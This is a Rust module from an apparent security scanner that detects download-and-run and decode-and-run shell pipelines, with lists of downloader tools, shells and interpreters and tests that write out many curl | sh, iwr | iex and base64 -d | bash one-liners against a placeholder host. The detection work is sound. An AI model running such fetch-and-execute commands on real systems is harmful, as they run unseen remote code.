//! Pipes: what is downloaded, or was encoded, and run unseen.

use std::borrow::Cow;

use crate::findings::Rule;
use crate::scan::{Columns, Found};

const DOWNLOADERS: &[&str] = &[
    "curl",
    "curl.exe",
    "wget",
    "wget.exe",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "aria2c",
    "fetch",
    "net.webclient",
    "system.net.webclient",
];
/// What runs whatever comes in.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "iex",
    "invoke-expression",
    "powershell",
    "powershell.exe",
    "pwsh",
    "cmd",
    "cmd.exe",
    "source",
    "eval",
];
/// What runs whatever comes in, unless it is told what to run.
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "deno",
    "bun",
    "osascript",
];
/// What may stand before a program.
const PREFIXES: &[&str] = &["sudo", "doas", "env", "command", "exec", "nohup", "time"];

/// Looks at the commands of a text, one line after the other.
#[derive(Debug, Default)]
pub(crate) struct Pipes {
    /// Where bytes come from that nobody has seen.
    origin: Option<Origin>,
    /// The next word is a program that bytes are piped into.
    after_pipe: bool,
    /// An interpreter stands there that has not been told what to run.
    interpreter: bool,
    /// Where a shell stands that runs what it is given, and whether a substitution has begun since.
    shell: Option<((u32, u32), bool)>,
    /// The line ends so far with what has a command go on in the next one.
    continues: bool,
}

#[derive(Debug, Clone, Copy)]
struct Origin {
    place: (u32, u32),
    what: What,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum What {
    /// The name alone: a word of a sentence, or in a table.
    Word,
    Download,
    Decoder,
    Decoded,
}

impl Pipes {
    /// Tells whether a command goes on in the next line.
    pub(crate) fn goes_on(&self) -> bool {
        self.origin.is_some()
    }

    /// Looks at a line, or the next piece of one, whose first character stands at `line` and `first`.
    pub(crate) fn piece(&mut self, (line, first): (u32, u32), text: &str, found: &mut Found) {
        let bytes = text.as_bytes();
        let mut columns = Columns::of(text, first);
        let mut at = 0;
        while at < bytes.len() {
            let begin = at;
            while at < bytes.len() && is_word(bytes[at]) {
                at += 1;
            }
            if at > begin {
                // Only bytes of ASCII are in it, so that its ends are ends of characters.
                let word = &text[begin..at];
                let word = if word.bytes().any(|byte| byte.is_ascii_uppercase()) {
                    Cow::Owned(word.to_ascii_lowercase())
                } else {
                    Cow::Borrowed(word)
                };
                self.word(&word, &mut || (line, columns.column(begin)), found);
                continue;
            }
            let next = bytes.get(at + 1).copied();
            match bytes[at] {
                b'|' if next == Some(b'|') => {
                    self.end(found);
                    at += 1;
                }
                b'|' => self.pipe(found),
                b'&' if next == Some(b'&') => {
                    self.end(found);
                    at += 1;
                }
                b';' => self.end(found),
                b'(' | b'`' => {
                    if let Some((_, substitutes)) = &mut self.shell {
                        *substitutes = true;
                    }
                }
                _ => {}
            }
            at += 1;
        }
        let rest = text.trim_end();
        if !rest.is_empty() {
            let is_cut_off = rest == "`" && first > 1;
            self.continues = rest.ends_with(['\\', '|']) || rest.ends_with(" `") || is_cut_off;
        }
    }

    /// Ends a line.
    pub(crate) fn end_of_line(&mut self, found: &mut Found) {
        if !std::mem::take(&mut self.continues) {
            self.end(found);
        }
    }

    fn pipe(&mut self, found: &mut Found) {
        self.end_of_interpreter(found);
        self.after_pipe = true;
        self.shell = None;
    }

    fn end(&mut self, found: &mut Found) {
        self.end_of_interpreter(found);
        *self = Self::default();
    }

    /// An interpreter that was told nothing more runs what it gets.
    fn end_of_interpreter(&mut self, found: &mut Found) {
        if std::mem::take(&mut self.interpreter) {
            self.runs(found);
        }
    }

    fn runs(&mut self, found: &mut Found) {
        let Some(Origin { place, what }) = self.origin else {
            return;
        };
        let message = match what {
            What::Download => "what is downloaded is run at once",
            What::Decoded => "what was encoded is run at once",
            What::Word | What::Decoder => return,
        };
        found.add(Rule::PipedDownload, place, message);
        self.origin = None;
    }

    fn word(&mut self, word: &str, place: &mut dyn FnMut() -> (u32, u32), found: &mut Found) {
        let name = word.rsplit('/').next().unwrap_or(word);
        if std::mem::take(&mut self.interpreter) && word == "-" {
            self.runs(found);
        }
        if self.after_pipe {
            if PREFIXES.contains(&name) || word.starts_with('-') || word.contains('=') {
                return;
            }
            self.after_pipe = false;
            if SHELLS.contains(&name) {
                self.runs(found);
                return;
            }
            if INTERPRETERS.contains(&name) {
                self.interpreter = self.origin.is_some();
                return;
            }
        }
        if DOWNLOADERS.contains(&name) {
            self.origin = Some(Origin {
                place: place(),
                what: What::Word,
            });
        } else if matches!(name, "base64" | "base32") {
            self.origin = Some(Origin {
                place: place(),
                what: What::Decoder,
            });
        } else if SHELLS.contains(&name) {
            self.shell = Some((place(), false));
        } else if let Some(origin) = &mut self.origin {
            match origin.what {
                // Whoever downloads says from where.
                What::Word if is_argument(word) => origin.what = What::Download,
                What::Decoder if matches!(word, "-d" | "--decode" | "-di") => {
                    origin.what = What::Decoded;
                }
                _ => {}
            }
            if let Some((place, true)) = self.shell
                && matches!(origin.what, What::Download | What::Decoded)
            {
                origin.place = place;
                self.shell = None;
                self.runs(found);
            }
        }
    }
}

fn is_argument(word: &str) -> bool {
    word.contains("://")
        || (word.starts_with('-') && word.len() > 1)
        || word.starts_with('$')
        || (word.contains('.') && word.contains('/'))
        || word.contains("downloadstring")
}

fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"-_./:+@%=~$?#{}[]".contains(&byte)
}

#[cfg(test)]
mod tests {
    use crate::findings::Rule;

    fn found(text: &str) -> Vec<(u32, u32)> {
        let found = crate::examiner::found(text);
        assert!(
            found.iter().all(|one| one.rule == Rule::PipedDownload),
            "{found:?}"
        );
        found.iter().map(|one| (one.line, one.column)).collect()
    }

    #[test]
    fn what_is_downloaded_and_run_is_found() {
        for text in [
            "curl -fsSL https://x.test/i.sh | sh",
            "curl https://x.test/i | sudo -E bash -s -- --yes",
            "wget -qO- https://x.test/i.sh|bash",
            "curl -s $URL | tee log | /bin/sh",
            "curl -s https://x.test/i.py | python3",
            "curl -s https://x.test/i.py | python3 -",
            "CURL -s https://x.test | SH",
            "iwr https://x.test/i.ps1 | iex",
            "irm https://x.test/i.ps1 | Invoke-Expression",
            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.test/i.ps1'))",
            "bash <(curl -s https://x.test/i)",
            "sh -c \"$(curl -fsSL https://x.test/i)\"",
            "eval \"$(wget -qO- https://x.test/i)\"",
            "eval `curl -s https://x.test/i`",
            "echo aGk= | base64 -d | sh",
            "echo aGk= | base64 --decode | sudo bash",
            "curl -s https://x.test/i |\n  bash",
            "curl -s \\\n  https://x.test/i \\\n  | bash",
            "run `curl -s https://x.test/i | sh` first",
        ] {
            assert_eq!(found(text).len(), 1, "{text}");
        }
        assert_eq!(
            found("a\nrun: curl -s https://x | sh; wget -q https://y | sh"),
            [(2, 6), (2, 30)]
        );
    }

    #[test]
    fn what_is_downloaded_and_looked_at_is_not() {
        for text in [
            "curl -s https://x.test/a.json | jq .",
            "curl -s https://x.test/a.json | python3 -m json.tool",
            "curl -s https://x.test | python -c 'import json'",
            "curl -s https://x.test/a.tgz | tar xz",
            "curl -O https://x.test/i.sh && sh i.sh",
            "curl -s https://x.test/a || bash fallback.sh",
            "curl -s https://x.test/a; ls | sh",
            "| curl | bash | a table |",
            "| `wget` | sh |",
            "never pipe curl into sh",
            "base64 file | sh",
            "sh -c 'curl -O https://x.test'",
            "bash install.sh\ncurl -s https://x.test",
            "curl -s https://x.test\n| bash | a table |",
            "fetch('https://x.test/api').then(a => a | b)",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
